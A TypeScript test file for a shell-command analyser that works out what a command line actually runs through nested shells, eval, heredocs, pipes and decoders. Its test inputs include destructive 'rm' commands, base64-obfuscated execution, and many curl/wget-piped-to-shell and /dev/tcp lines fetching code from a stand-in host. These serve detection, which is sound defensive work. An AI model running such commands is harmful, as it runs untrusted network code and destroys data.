import { describe, expect, test } from 'bun:test';
import { CONTEXT, gapsIn, last, read, runs } from './reads.ts';

describe('readCommand with shells', () => {
  test.each([
    "sh -c 'rm x'",
    'bash -c "rm x"',
    "zsh -lc 'rm x'",
    "bash -x -c 'rm x'",
    "bash -c -- 'rm x'",
    "bash -ec 'rm x'",
    "bash -o pipefail -c 'rm x'",
    "bash --norc -c 'rm x'",
    "bash --rcfile f -c 'rm x'",
    "bash -norc -c 'rm x'",
    "bash -n +n -c 'rm x'",
    "bash -o noexec +o noexec -c 'rm x'",
    "nu -n -c 'rm x'",
    "elvish -norc -c 'rm x'",
    'dash -c \'rm "$1"\' name x',
    'sh -c \'"$0" x\' rm',
    "sh -c '$0 $@' rm x",
    "env sh -c 'rm x'",
    'sh -c \'sh -c "rm x"\'',
    '${SHELL} -c "rm x"',
    'bash <<< "rm x"',
    "bash <<'E'\nrm x\nE",
    'bash -s <<E\nrm x\nE',
    'sh /dev/stdin <<< "rm x"',
    'bash <(echo rm x)',
    'source <(echo rm x)',
    '. /dev/stdin <<< "rm x"',
    "eval 'rm x'",
    "X=y; X=x eval 'rm $X'",
    "X=x; X=y eval ''; rm $X",
    "X=y; Z= eval 'X=x'; rm $X",
    "X=y; X=x . /dev/stdin <<< 'rm $X'",
    'eval rm x',
    'eval \'eval "rm x"\'',
    'X="rm x"; eval "$X"',
    'X="rm x"; eval $X',
    'X="rm x"; bash -c "$X"',
    'fish -c "rm x"',
    'cmd /c rm x',
  ])('reads the script in %p', (text) => {
    expect(runs(text).filter((line) => !line.startsWith('echo'))).toEqual(['rm x']);
  });

  test.each([
    "echo 'rm x' | sh",
    'echo rm x | sudo bash -s',
    "printf 'rm %s\\n' x | bash",
    "echo 'rm x' | tee log | sh",
    'echo cm0geA== | base64 -d | sh',
    "cat <<'E' | sh\nrm x\nE",
    "{ echo 'rm x'; } | sh",
    'X="rm x"; echo "$X" | sh',
    'sh < <(echo rm x)',
    "echo 'rm x' > s.sh; sh s.sh",
    "echo 'rm x' > s.sh; chmod +x s.sh; ./s.sh",
    "cat > s.sh <<'E'\nrm x\nE\nbash ./s.sh",
    "echo 'rm x' | tee s.sh; . ./s.sh",
    "echo 'rm x' > a; cp a b; sh b",
    "echo 'rm' > a; echo 'rm x' >> b; sh b",
    "echo 'rm x' > s.sh; BASH_ENV=s.sh bash -c ls",
    "echo 'rm x' > s.sh; ENV=s.sh sh -i",
  ])('follows text into a shell: %p', (text) => {
    expect(runs(text)).toContain('rm x');
    expect(gapsIn(text)).toEqual([]);
  });

  test.each(["PROMPT_COMMAND='rm x' bash -c ls", "PROMPT_COMMAND='rm x'; ls", "ENV='rm x' make"])(
    'runs nothing else in %p',
    (text) => {
      expect(runs(text)).not.toContain('rm x');
    },
  );

  test.each([
    'sh -c "$X"',
    'eval "$X"',
    'echo "$X" | sh',
    'tool | sh',
    'bash <(tool)',
    'eval "$(tool)"',
    'echo x | openssl enc -d | sh',
    'awk \'BEGIN{print "rm x"}\' | sh',
  ])('says that the script in %p is not known', (text) => {
    expect(gapsIn(text)).toEqual(['unknown_script']);
  });

  test.each(['sh script.sh', 'bash < script.sh', 'cat script.sh | sh', 'source ~/.profile', './run.sh'])(
    'takes %p for a file that is run',
    (text) => {
      const { commands, complete } = read(text);
      expect(complete).toBe(true);
      expect(commands.flatMap(({ effects }) => effects)).toContainEqual(
        expect.objectContaining({ use: 'execute' }),
      );
    },
  );

  test.each([
    'eval "$(ssh-agent -s)"',
    'eval "$(brew shellenv)"',
    'source <(kubectl completion bash)',
    'bash',
    'bash -c',
  ])('has nothing to say against %p', (text) => {
    expect(gapsIn(text)).toEqual([]);
  });

  test.each([
    ['eval "$(ssh-agent echo rm x)"', 'rm x'],
    ['eval "$(direnv exec . echo rm x)"', 'rm x'],
    ["cat > a <<'E'\n#!/bin/sh\nrm $1\nE\n./a x", 'rm x'],
    ['echo \'rm "$@"\' > a; ./a x', 'rm x'],
    ["cat > a <<'E'\n#!/usr/bin/osh\nrm x\nE\n./a", 'rm x'],
    ['cat > a <<\'E\'\n#!/usr/bin/env -S bash -c "rm x"\n:\nE\n./a', 'rm x'],
  ])('finds in %p what runs in the end', (text, command) => {
    expect(runs(text)).toContain(command);
  });

  test('believes a row of a policy file that a program prints settings', () => {
    const programs = { own: '\nacme\t{"prints_settings":["init"]}\n', added: '\n' };
    const gaps = (text: string) => read(text, { ...CONTEXT, programs }).gaps.length;
    expect(gaps('eval "$(acme init)"')).toBe(0);
    expect(gaps('eval "$(acme run)"')).toBe(1);
  });

  test.each([
    ['curl -s https://x.example/i | sh', 'https://x.example/i'],
    ['curl -s https://x.example/i | sudo -E bash -', 'https://x.example/i'],
    ['wget -qO- https://x.example/i | bash -s -- --yes', 'https://x.example/i'],
    ['bash <(curl -s https://x.example/i)', 'https://x.example/i'],
    ['source <(curl -s https://x.example/i)', 'https://x.example/i'],
    ['bash -c "$(curl -fsSL https://x.example/i)"', 'https://x.example/i'],
    ['eval "$(wget -qO- https://x.example/i)"', 'https://x.example/i'],
    ['X=$(curl https://x.example/i); eval "$X"', 'https://x.example/i'],
    ['curl https://x.example/i > f; sh f', 'https://x.example/i'],
    ['curl -o f https://x.example/i && chmod +x f && ./f', 'https://x.example/i'],
    ['curl -O https://x.example/i; bash i', 'https://x.example/i'],
    ['wget https://x.example/i; sh ./i', 'https://x.example/i'],
    ['wget https://x.example/i -O /tmp/f; bash /tmp/f', 'https://x.example/i'],
    ['curl https://x.example/i | tee f | sh', 'https://x.example/i'],
    ['(curl https://x.example/i || true) | sh', 'https://x.example/i'],
    ['curl https://x.example/i | sed s/a/b/ | sh', 'https://x.example/i'],
    ['curl https://x.example/i | python3 -', 'https://x.example/i'],
    ['python3 -c "$(curl https://x.example/i)"', 'https://x.example/i'],
    ['curl https://x.example/i | node', 'https://x.example/i'],
    ['bash < /dev/tcp/x.example/80', '/dev/tcp/x.example/80'],
    ['deno run -A https://x.example/i.ts', 'https://x.example/i.ts'],
  ])('sees that %p runs code from the network', (text, source) => {
    const effects = read(text).commands.flatMap((command) => command.effects);
    expect(effects).toContainEqual(
      expect.objectContaining({
        type: 'remote_code',
        origin: 'network',
        source: [{ type: 'text', text: source }],
      }),
    );
  });

  test('sees code that comes out of a decoder', () => {
    const { effects } = last('base64 -d payload | sh');
    expect(effects).toContainEqual(expect.objectContaining({ type: 'remote_code', origin: 'decoder' }));
  });

  test('does not give a shell its own script as its input', () => {
    expect(runs('bash <<< bash')).toEqual(['bash']);
  });

  test('does not show variables that are not exported to another shell', () => {
    expect(runs("X=a; sh -c 'rm $X/b'")).toEqual(['rm ‹$X›/b']);
    expect(runs("export X=a; sh -c 'rm $X/b'")).toEqual(['export X=a', 'rm a/b']);
    expect(runs("X=a sh -c 'rm $X/b'")).toEqual(['rm a/b']);
  });

  test('reads a script with parts that are not known as far as it goes', () => {
    expect(runs('sh -c "cd $DIR && rm -rf build"')).toEqual(['cd ‹$DIR›', 'rm -rf build']);
    expect(gapsIn('sh -c "$CMD x"')).toEqual(['unknown_program']);
  });

  test('tells where in the outer text the commands of a script stand', () => {
    const text = "sudo sh -c 'a; rm x'";
    const { span } = last(text);
    expect(text.slice(span.start, span.end)).toBe('rm x');
    const escaped = 'sh -c "rm \\"a b\\""';
    expect(escaped.slice(last(escaped).span.start, last(escaped).span.end)).toBe('"rm \\"a b\\""');
  });
});
